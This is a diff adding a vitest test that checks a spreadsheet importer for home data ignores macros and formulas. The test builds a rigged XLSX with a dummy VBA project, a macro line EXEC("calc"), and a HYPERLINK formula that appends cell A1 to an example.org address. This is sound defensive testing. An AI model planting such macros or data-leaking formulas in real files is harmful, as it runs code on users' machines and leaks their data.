@@ -1,4 +1,5 @@
 import { readFileSync } from 'node:fs';
+import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
 import { describe, expect, it } from 'vitest';
 import { homeNamed } from '@/demo/dozen-homes';
 import { fixturesOf, type Home, roomsOf } from '../home/room';
@@ -38,6 +39,25 @@ describe('a table from a spreadsheet’s own file', () => {
   ])('is refused in a sentence where it is none: %s', async (_what, file) => {
     const table = await tableIn(new Uint8Array(file));
     expect(table.is === 'none' && table.sentence).toMatch(/^This spreadsheet cannot be read\. Save it as/);
+  });
+
+  it('runs nothing: macros in it are left alone, and a formula is what it was last shown as', async () => {
+    const parts = unzipSync(XLSX);
+    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml']!);
+    // A name, as a formula that leads out of the house.
+    const named = /<c r="([A-Z]+2)"[^>]*t="inlineStr">\s*<is>\s*<t>([^<]+)<\/t>\s*<\/is>\s*<\/c>/;
+    const [cell = '', at = '', text = ''] = named.exec(sheet) ?? [];
+    const formula = `<c r="${at}" t="str"><f>HYPERLINK("http://example.org/"&amp;A1,"x")</f><v>${text}</v></c>`;
+    expect(text).not.toBe('');
+    const withMacros = zipSync({
+      ...parts,
+      'xl/worksheets/sheet1.xml': strToU8(sheet.replace(cell, formula)),
+      'xl/vbaProject.bin': new Uint8Array(4096).fill(0xcc),
+      'xl/macrosheets/sheet1.xml': strToU8('<xm:macrosheet><c><f>EXEC("calc")</f></c></xm:macrosheet>'),
+    });
+    const { home: back, faults } = await read(withMacros);
+    expect(faults).toEqual([]);
+    expect(back).toEqual(home);
   });
 
   it('is not unpacked where it says that it would fill the machine', async () => {
